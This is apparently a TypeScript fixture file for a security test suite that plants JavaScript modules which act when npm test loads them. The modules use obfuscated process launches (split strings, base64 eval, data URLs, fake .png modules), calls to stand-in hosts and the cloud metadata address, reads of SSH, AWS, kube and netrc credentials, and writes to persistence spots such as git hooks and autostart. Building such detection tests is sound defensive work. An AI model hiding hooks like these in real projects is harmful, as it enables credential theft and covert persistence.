import { mark, type Planted } from './planted.ts';

type Files = Readonly<Record<string, string>>;

/** A module with its own test. Of `text`, RAN is the mark. */
function module(name: string, act: string, text: string, more: Files = {}): Planted {
  return {
    name,
    base: {
      [`lib/${name}.js`]: 'exports.add = (a, b) => a + b;\n',
      [`test/${name}.test.js`]: `const { add } = require("../lib/${name}.js");\nrequire("node:test")("adds", () => { if (add(1, 2) !== 3) throw new Error("sum"); });\n`,
    },
    change: Object.fromEntries(
      Object.entries({ [`lib/${name}.js`]: text, ...more }).map(([file, one]) => [
        file,
        `${one.replaceAll('RAN', mark.js(name))}\n`,
      ]),
    ),
    act,
  };
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const HOME = 'require("os").homedir()';

/** What runs where a project's modules are loaded by `npm test`. */
export const JAVASCRIPT: readonly Planted[] = [
  module('exec', 'starts uname', 'RAN try { require("child_process").execSync("uname -a"); } catch {}'),
  module('split', 'starts whoami', 'RAN const c = require("child_" + "process"); c["exec" + "Sync"]("who" + "ami");'),
  module('binding', 'starts hostname', 'RAN require("module")._load("child_process").spawnSync("hostname");'),
  module('maker', 'starts nproc', 'RAN Function("r", "r(\'child_process\').spawnSync(\'nproc\')")(require);'),
  module(
    'getter',
    'starts arch',
    'Object.defineProperty(exports, "add", { get() { RAN require("child_process").spawnSync("arch"); return (a, b) => a + b; } });',
  ),
  module('late', 'starts groups', 'process.on("exit", () => { RAN require("child_process").spawnSync("groups"); });'),
  module('tick', 'starts logname', 'setImmediate(() => { RAN require("child_process").spawnSync("logname"); });'),
  module(
    'cipher',
    'starts users',
    `eval(Buffer.from("${base64('RAN require("child_process").spawnSync("users");'.replace('RAN', mark.js('cipher')))}", "base64").toString());`,
  ),
  module(
    'fixture',
    'starts df',
    'RAN const f = JSON.parse(require("fs").readFileSync(__dirname + "/../test/data/rates.json")); new (require("vm").Script)(f.formula).runInThisContext()(require);',
    {
      'test/data/rates.json': '{ "rate": 3, "formula": "(r) => r(\'child_process\').spawnSync(\'df\')" }',
    },
  ),
  module(
    'picture',
    'starts tac',
    'RAN require("module")._extensions[".png"] = require("module")._extensions[".js"]; require("../test/data/logo.png");',
    {
      'test/data/logo.png': 'require("child_process").spawnSync("tac", { input: "" });',
    },
  ),
  module(
    'dataurl',
    'starts tty',
    'import("data:text/javascript,import{spawnSync}from%22node:child_process%22;spawnSync(%22tty%22)"); RAN',
  ),
  module(
    'worker',
    'starts stat',
    "RAN new (require(\"worker_threads\").Worker)(\"require('child_process').spawnSync('stat', ['/'])\", { eval: true });",
  ),
  module(
    'daemon',
    'starts sleep',
    'RAN require("child_process").spawn("sleep", ["600"], { detached: true, stdio: "ignore" }).unref();',
  ),
  module(
    'renamed',
    'starts base64',
    'RAN const fs = require("fs"); fs.symlinkSync("/usr/bin/base64", "/tmp/link-b64"); require("child_process").spawnSync("/tmp/link-b64", ["/dev/null"]);',
  ),
  module('socket', '192.0.2.7:4401', 'RAN require("net").connect(4401, "192.0.2.7").on("error", () => {}).unref();'),
  module('fetch', 'metrics.example', 'RAN fetch("http://metrics.example/?q=1").catch(() => {});'),
  module('lookup', 'asks for a1b2.tunnel.example', 'RAN require("dns").lookup("a1b2.tunnel.example", () => {});'),
  module(
    'datagram',
    '192.0.2.7:4402',
    'RAN const s = require("dgram").createSocket("udp4"); s.send("x", 4402, "192.0.2.7", () => s.close());',
  ),
  module('server', 'listens on 0.0.0.0:4403', 'RAN require("net").createServer().listen(4403, "0.0.0.0").unref();'),
  module('inspector', 'listens on 0.0.0.0:9229', 'RAN require("inspector").open(9229, "0.0.0.0");'),
  module(
    'metadata',
    '169.254.169.254:80',
    'RAN require("http").get("http://169.254.169.254/latest/meta-data/").on("error", () => {});',
  ),
  module('docker', 'docker.sock', 'RAN require("net").connect("/var/run/docker.sock").on("error", () => {});'),
  module('key', '~/.ssh/id_rsa', `RAN require("fs").readFileSync([${HOME}, "." + "ssh", "id_" + "rsa"].join("/"));`),
  module('stream', '~/.aws/credentials', `RAN require("fs").createReadStream(${HOME} + "/.aws/credentials").resume();`),
  module('handle', '~/.netrc', `RAN require("fs").promises.open(${HOME} + "/.netrc").then((f) => f.close());`),
  module(
    'around',
    '~/.kube/config',
    `RAN process.chdir(${HOME} + "/.kube"); require("fs").readFileSync("/proc/./self/cwd/config");`,
  ),
  module(
    'linked',
    '~/.docker/config.json',
    `RAN require("fs").linkSync(${HOME} + "/.docker/config.json", ${HOME} + "/c"); require("fs").readFileSync(${HOME} + "/c");`,
  ),
  module(
    'environ',
    '/proc/PID/environ',
    'RAN try { require("fs").readFileSync("/proc/" + process.ppid + "/environ"); } catch {}',
  ),
  module(
    'search',
    '~/.pypirc',
    `RAN const fs = require("fs"); for (const n of fs.readdirSync(${HOME})) if (/^.py/.test(n)) fs.readFileSync(${HOME} + "/" + n);`,
  ),
  module('profile', '~/.profile', `RAN require("fs").appendFileSync(${HOME} + "/.profile", "\\n");`),
  module(
    'autostart',
    '~/.config/autostart',
    `RAN const fs = require("fs"); fs.mkdirSync(${HOME} + "/.config/autostart", { recursive: true }); fs.writeFileSync(${HOME} + "/.config/autostart/x.desktop", "");`,
  ),
  module(
    'hook',
    '.git/hooks/post-commit',
    'RAN require("fs").writeFileSync(__dirname + "/../.git/hooks/post-commit", "#!/bin/sh\\n", { mode: 0o755 });',
  ),
  module('gitconfig', '~/.gitconfig', `RAN require("fs").writeFileSync(${HOME} + "/.gitconfig", "[alias]\\n");`),
  module(
    'editor',
    '.vscode',
    'RAN const fs = require("fs"); fs.mkdirSync(__dirname + "/../.vscode", { recursive: true }); fs.writeFileSync(__dirname + "/../.vscode/tasks.json", "{}");',
  ),
  module(
    'rewrite',
    'package.json',
    'RAN const fs = require("fs"); const p = __dirname + "/../package.json"; fs.writeFileSync(p, fs.readFileSync(p));',
  ),
];
